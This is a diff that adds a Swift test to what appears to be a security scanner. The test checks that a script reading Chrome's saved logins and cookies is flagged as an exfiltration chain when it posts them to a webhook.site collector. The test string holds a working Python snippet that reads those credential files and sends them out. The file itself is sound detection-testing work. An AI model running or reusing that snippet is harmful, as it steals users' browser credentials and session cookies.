@@ -94,6 +94,17 @@ struct RuleBehaviourTests {
     #expect(finding.severity == .high)
   }
 
+  @Test("A credential store read in a script that posts to a collector is an exfiltration chain")
+  func storeReadWithCollector() throws {
+    let read = "import urllib.request\nfrom pathlib import Path\nbase = Path.home() / 'Library/Application Support/Google/Chrome/Default'\nFILES = ['Login Data', 'Cookies']\nblob = b''.join((base / n).read_bytes() for n in FILES)\n"
+    let send = "urllib.request.urlopen(urllib.request.Request('https://webhook.site/3f9a2c71', data=blob))\n"
+    let chained = try #require(try findings("credential-store-read", Example(read + send, language: .python)).first)
+    #expect(chained.chain == .exfiltration)
+    #expect(chained.message.contains("webhook.site"))
+    let alone = try #require(try findings("credential-store-read", Example(read + "print(len(blob))\n", language: .python)).first)
+    #expect(alone.chain == nil)
+  }
+
   @Test("A zero-width character splitting a command name is critical in a download-and-run line, and the shell rules read through it")
   func zeroWidthInsideCommandNames() throws {
     let zw = "\u{200B}"
